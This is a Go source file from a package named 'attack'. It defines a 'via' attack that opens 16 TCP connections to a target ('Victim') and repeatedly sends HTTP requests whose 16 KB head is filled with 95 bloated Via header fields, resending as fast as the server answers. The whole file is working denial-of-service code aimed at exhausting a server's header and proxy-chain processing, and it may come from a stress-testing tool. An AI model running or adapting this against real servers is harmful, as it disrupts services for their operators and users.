package attack

import (
	"bufio"
	"context"
	"net"
	"strings"
)

// via: a request that says that it has come through thousands of proxies.
var via = Kind{
	Name:  "via",
	About: "16 connections, 95 Via fields in a 16 KB head, as fast as they are answered",
	Run: func(ctx context.Context, v Victim, log *Log) error {
		request := v.viaRequest()
		keep(ctx, v.scaled(16), v.Plain, 0, log, func(conn *net.TCPConn) error {
			return askOnAndOn(conn, request, log)
		})
		return nil
	},
}

// viaRequest has as much of Via as the 16 KB of a head take.
func (v Victim) viaRequest() []byte {
	const fields, head, entry = 95, 16 << 10, "1.1 a,"
	b := v.describeHead()
	room := (head-len(b)-len("\r\n"))/fields - len("Via: 1.1 a\r\n")
	line := "Via: " + strings.Repeat(entry, room/len(entry)) + "1.1 a\r\n"
	return append(append(b, strings.Repeat(line, fields)...), "\r\n"...)
}

// askOnAndOn sends the same request each time that the last one was answered.
func askOnAndOn(conn net.Conn, request []byte, log *Log) error {
	for r := bufio.NewReader(conn); ; {
		if _, err := conn.Write(request); err != nil {
			return err
		}
		log.sent(1)
		if last, err := readAnswer(r, log); last {
			return err
		}
	}
}
